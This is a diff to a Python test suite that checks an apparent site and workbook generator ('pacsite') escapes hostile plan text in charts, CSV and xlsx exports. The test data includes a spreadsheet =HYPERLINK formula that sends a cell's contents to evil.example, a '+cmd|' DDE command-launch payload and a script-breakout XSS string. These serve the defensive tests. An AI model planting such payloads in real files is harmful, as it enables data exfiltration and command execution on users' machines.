@@ -142,7 +142,10 @@ def test_chart_json_cannot_close_its_script(hostile_site: Path) -> None:
 
     figures = [json.loads(b)[0] for b in blocks]
     titles = [f["layout"]["title"]["text"] for f in figures]
-    assert "Ventes &lt;/script&gt;&lt;script&gt;alert(&#34;kpi&#34;)&lt;/script&gt;" in titles
+    assert (
+        "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;Ventes&#34;) "
+        "&lt;/script&gt;&lt;script&gt;alert(&#34;kpi&#34;)&lt;/script&gt;" in titles
+    )
     notes = [
         c for f in figures for t in f["data"] for c in t.get("customdata", []) if isinstance(c, str)
     ]
@@ -162,3 +165,44 @@ def test_calendar_feed_and_csv_are_inert(hostile_site: Path) -> None:
     cells = [c for row in rows[1:] for c in row]
     assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)
     assert '\'+cmd|"/c calc"!A0' in cells
+
+
+def _workbook_cells(data: bytes) -> list[tuple[str, str, object, str]]:
+    import openpyxl
+
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return [
+        (ws.title, cell.coordinate, cell.value, cell.data_type)
+        for ws in book
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+
+
+def test_no_text_of_a_plan_is_a_formula_in_any_workbook(
+    hostile_site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Every sheet of every workbook pacsite writes — the site's, `pacsite export`'s and the
+    template — opened with openpyxl: no cell is a formula, and the plan's `=HYPERLINK(…)`,
+    `+cmd|…` and `@SUM(…)` texts are there as text."""
+    from pacsite.cli import main
+
+    books = {p.name: p.read_bytes() for p in hostile_site.rglob("*.xlsx")}
+    assert books, "the site offers the plan as a workbook"
+    project = hostile_site.parent
+    monkeypatch.chdir(project)
+    assert main(["export", "hostile", str(tmp_path / "export.xlsx")]) == 0
+    books["export"] = (tmp_path / "export.xlsx").read_bytes()
+    assert main(["template", "xlsx", str(tmp_path / "template.xlsx")]) == 0
+    books["template"] = (tmp_path / "template.xlsx").read_bytes()
+    for name, data in books.items():
+        cells = _workbook_cells(data)
+        formulas = [c for c in cells if c[3] == "f" or str(c[2]).startswith("=") and c[3] != "s"]
+        assert formulas == [], name
+    export = _workbook_cells(books["export"])
+    texts = {(sheet, str(value)) for sheet, _, value, kind in export if kind == "s"}
+    sheets = {sheet for sheet, value in texts if value.startswith('=HYPERLINK("http://evil')}
+    assert {"Indicateurs", "Indicateurs par période", "Alertes"} <= sheets, sheets
+    assert any(value.startswith("+cmd|") for _, value in texts)
+    assert any("@SUM(1+1)" in value for _, value in texts)
